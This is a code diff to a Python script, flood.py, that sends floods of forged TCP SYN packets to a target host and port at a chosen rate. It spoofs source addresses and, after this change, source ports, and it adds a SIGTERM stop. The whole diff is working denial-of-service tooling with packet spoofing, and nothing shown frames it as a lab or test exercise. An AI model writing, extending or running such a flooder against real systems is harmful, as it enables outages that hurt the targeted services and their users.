@@ -3,11 +3,12 @@
 """flood.py DEVICE LINK SOURCE TARGET PORT RATE SECONDS: a flood of forged SYNs.
 
 Sends SYNs from DEVICE to the link-layer address LINK, for port PORT of TARGET, RATE in a second or as
-many as it manages, from addresses that differ from SOURCE in their last three bytes. Prints how
-many.
+many as it manages, from addresses that differ from SOURCE in their last two bytes, and from as many
+ports. Stops after so many seconds, or at SIGTERM, and prints how many there were.
 """
 
 import ipaddress
+import signal
 import socket
 import struct
 import sys
@@ -52,7 +53,7 @@ class Syns:
         self.address, self.identification, self.port = length - (6 if self.is_four else 18), 18, length
 
     def number(self, number):
-        """The SYN of this number, of 64,512 for a source."""
+        """The SYN of this number, of 64,512."""
         word = number % 0xFC00
         struct.pack_into("!H", self.frame, self.address, word)
         struct.pack_into("!H", self.frame, self.port, ONES - word)
@@ -70,7 +71,9 @@ def main(device, link, source, target, port, rate, seconds):
         syns = Syns(link, own, source, target, int(port))
         begin = time.monotonic()
         sent = 0
-        while (elapsed := time.monotonic() - begin) < seconds:
+        asked = []
+        signal.signal(signal.SIGTERM, lambda *_: asked.append(True))
+        while not asked and (elapsed := time.monotonic() - begin) < seconds:
             due = min(int(elapsed * rate), sent + 256)
             if due <= sent:
                 time.sleep(0.002)
